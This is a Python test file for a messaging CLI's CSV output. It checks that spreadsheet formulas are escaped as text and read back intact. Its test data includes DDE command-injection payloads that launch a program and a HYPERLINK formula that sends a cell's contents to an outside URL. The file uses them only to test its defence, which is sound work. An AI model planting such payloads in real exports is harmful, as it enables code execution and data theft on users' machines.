"""CSV files that `kobo` writes hold no formula, and are read back as they were."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kobo_cli.bulk.output import write_bad_rows
from kobo_cli.bulk.table import open_table
from kobo_cli.bulk.workspace import BadRow
from kobo_cli.campaigns.failed import _write
from kobo_cli.spreadsheet import BAD_ROWS, FAILED_ROWS, as_given, as_text

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "'=1+1",
    "+234=1",
]
HARMLESS = ["", "+2348030100001", "+234 803 010 0001", "-12.50", "-", "08030100001", "a=b", "'quoted'", "a@b.com"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell: str) -> None:
    assert as_text([cell]) == [f"'{cell}"]


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_none_stays(cell: str) -> None:
    assert as_text([cell]) == [cell]


@given(st.lists(st.text() | st.text("'=+-@\t 0123", max_size=6)))
def test_what_was_made_text_reads_back(cells: list[str]) -> None:
    written = as_text(cells)
    assert as_given(written) == cells
    assert as_text(as_given(written)) == written
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in written)


def test_bad_rows_come_back_as_they_were_when_they_are_mended(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    cells = ["0803", *FORMULAS[:6]]
    header = ["to", *(f"={at}" for at in range(6))]
    write_bad_rows(path, header, [BadRow(2, "to", "=no number", cells)], ",")
    written = path.read_text(encoding="utf-8-sig")
    (_, row) = csv.reader(io.StringIO(written))
    assert not any(cell.startswith(("=", "@", "+c", "-2")) for cell in row)
    with open_table(path) as table:
        assert [*table.header.cells] == [*BAD_ROWS, *header]
        (back,) = table.rows()
    assert back.cells == ["2", "to: =no number", *cells]


def test_a_file_of_people_is_read_as_it_is(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("to,name\n08030100001,'=Ada\n")
    with open_table(path) as table:
        assert [row.cells for row in table.rows()] == [["08030100001", "'=Ada"]]


def test_the_rows_of_those_who_did_not_get_it(tmp_path: Path) -> None:
    path = tmp_path / "failed.csv"
    assert _write(path, [*FAILED_ROWS, "=name"], [["2", "2348030100001", "failed", "=why", "=Ada"]]) == 1
    assert path.read_text(encoding="utf-8-sig").splitlines()[1] == "2,2348030100001,failed,'=why,'=Ada"
    assert path.stat().st_mode & 0o077 == 0
